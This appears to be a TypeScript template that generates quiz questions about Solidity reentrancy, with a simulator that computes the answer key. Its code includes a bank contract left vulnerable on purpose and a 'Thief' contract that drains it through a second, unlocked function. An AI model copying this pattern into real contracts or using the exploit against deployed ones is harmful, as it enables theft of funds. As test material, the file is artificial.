import type { Rng } from '../../../tasks/rng'
import { template } from '../../../tasks/template'
import { drawnUntil } from '../../draws'
import { exactly } from './answers'

/** How an account is emptied, and whether that comes before the payment. */
const WIPES = {
  early: { line: 'held[msg.sender] = 0;', isEarly: true },
  late: { line: 'held[msg.sender] = 0;', isEarly: false },
  lateMinus: { line: 'held[msg.sender] -= n;', isEarly: false },
} as const
export interface Params {
  names: { contract: string; take: string; move: string }
  wipe: keyof typeof WIPES
  isTakeLocked: boolean
  isMoveLocked: boolean
  /** What the receiver calls while it is paid. */
  calls: 'move' | 'take'
  others: number
  stake: number
  rounds: number
}

interface Bank {
  ether: number
  busy: boolean
  held: Record<'thief' | 'mate', number>
}

/** What is left in the contract, by playing it through. */
function left({ wipe, isTakeLocked, isMoveLocked, calls, others, stake, rounds }: Params): number {
  let bank: Bank = { ether: others, busy: false, held: { thief: 0, mate: 0 } }
  /** Runs as a call: what fails is undone. */
  const call = (does: () => boolean): boolean => {
    const before = structuredClone(bank)
    const isDone = does()
    if (!isDone) bank = before
    return isDone
  }
  const locked = (isLocked: boolean, does: () => boolean) => (): boolean => {
    if (!isLocked) return does()
    if (bank.busy) return false
    bank.busy = true
    const isDone = does()
    bank.busy = false
    return isDone
  }
  const move = locked(isMoveLocked, () => {
    bank.held.mate += bank.held.thief
    bank.held.thief = 0
    return true
  })
  const take = (who: 'thief' | 'mate', depth = 0): (() => boolean) =>
    locked(isTakeLocked, () => {
      const n = bank.held[who]
      if (n === 0 || n > bank.ether) return false
      if (WIPES[wipe].isEarly) bank.held[who] = 0
      bank.ether -= n
      if (who === 'thief' && depth === 0) call(calls === 'move' ? move : take('thief', 1))
      if (wipe === 'late') bank.held[who] = 0
      if (wipe !== 'lateMinus') return true
      if (bank.held[who] < n) return false
      bank.held[who] -= n
      return true
    })
  for (let round = 0; round < rounds; round++) {
    call(() => {
      bank.ether += stake
      bank.held.thief += stake
      return call(take('thief'))
    })
    call(take('mate'))
  }
  return bank.ether
}

function drawn(rng: Rng): Params {
  const stake = rng.int(2, 6)
  const rounds = rng.int(2, 4)
  return {
    names: rng.pick([
      { contract: 'Bank', take: 'take', move: 'move' },
      { contract: 'Arcade', take: 'cashOut', move: 'give' },
      { contract: 'Hostel', take: 'checkOut', move: 'handOver' },
      { contract: 'Carpool', take: 'settle', move: 'assign' },
    ]),
    wipe: rng.pick(['early', 'late', 'late', 'lateMinus'] as const),
    isTakeLocked: rng.int(0, 2) > 0,
    isMoveLocked: rng.int(0, 2) === 0,
    calls: rng.pick(['move', 'move', 'take'] as const),
    others: stake * rounds + rng.int(3, 20),
    stake,
    rounds,
  }
}

export default template({
  id: 'solidity/security/moved-credit',
  revision: 1,
  kind: 'numeric',
  topic: 'security',
  grade: 5,
  seconds: 280,
  lang: 'solidity',
  status: 'active',
  idea: 'A lock on one function leaves the others open to a receiver: what is not yet wiped out can be moved away while it is paid.',
  params: (rng) =>
    drawnUntil(
      () => drawn(rng),
      (params) => {
        const { others, isTakeLocked, isMoveLocked, wipe } = params
        // Without loss in a third of what is drawn; and there is a guard of some kind always.
        const isLost = left(params) < others
        return (isTakeLocked || isMoveLocked || wipe !== 'late') && (isLost || params.others % 3 === 0)
      },
    ),
  ask: ({
    names: { contract, take, move },
    wipe,
    isTakeLocked,
    isMoveLocked,
    calls,
    others,
    stake,
    rounds,
  }) => {
    const { line, isEarly } = WIPES[wipe]
    return {
      stem: `Other people have put ${others} ether into \`${contract}\`. Mallory deploys \`Mate\` with the address of \`${contract}\`, and \`Thief\` with both addresses. Then she calls \`go\` of \`Thief\` with ${stake} ether and after that \`pull\` of \`Mate\`, and does both ${rounds} times in all. A call that fails changes nothing. How many ether does \`${contract}\` hold in the end?`,
      code: [
        `contract ${contract} {`,
        '  mapping(address => uint256) public held;',
        '  bool busy;',
        '  modifier lock() {',
        '    require(!busy);',
        '    busy = true; _; busy = false;',
        '  }',
        '  function put() external payable {',
        '    held[msg.sender] += msg.value;',
        '  }',
        `  function ${take}() external${isTakeLocked ? ' lock' : ''} {`,
        '    uint256 n = held[msg.sender];',
        '    require(n > 0);',
        ...(isEarly ? [`    ${line}`] : []),
        '    (bool ok, ) = msg.sender.call{value: n}("");',
        '    require(ok);',
        ...(isEarly ? [] : [`    ${line}`]),
        '  }',
        `  function ${move}(address to) external${isMoveLocked ? ' lock' : ''} {`,
        '    uint256 n = held[msg.sender];',
        '    held[msg.sender] = 0;',
        '    held[to] += n;',
        '  }',
        '}',
        'contract Mate {',
        `  ${contract} t; uint256 depth;`,
        `  constructor(${contract} a) { t = a; }`,
        `  function pull() external { t.${take}(); }`,
        '  receive() external payable virtual {}',
        '}',
        'contract Thief is Mate {',
        '  address mate;',
        `  constructor(${contract} a, address m) Mate(a) { mate = m; }`,
        `  function go() external payable { depth = 0; t.put{value: msg.value}(); t.${take}(); }`,
        '  receive() external payable override {',
        `    if (depth++ == 0) try t.${calls === 'move' ? `${move}(mate)` : `${take}()`} {} catch {}`,
        '  }',
        '}',
      ].join('\n'),
      answerHint: 'A whole number of ether.',
    }
  },
  key: (params) => exactly(left(params)),
  why: ({ names, wipe, isTakeLocked, isMoveLocked, calls }) =>
    `While Thief is paid it calls ${names[calls]}, which is ${(calls === 'move' ? isMoveLocked : isTakeLocked) ? 'locked and fails' : 'not locked'}. The account is ${wipe === 'early' ? 'empty by then' : 'not yet empty by then'}${wipe === 'lateMinus' ? '; the checked subtraction after the payment undoes the whole call if the account was emptied meanwhile' : ''}.`,
  source: ['Solidity documentation, Security Considerations: Reentrancy'],
})
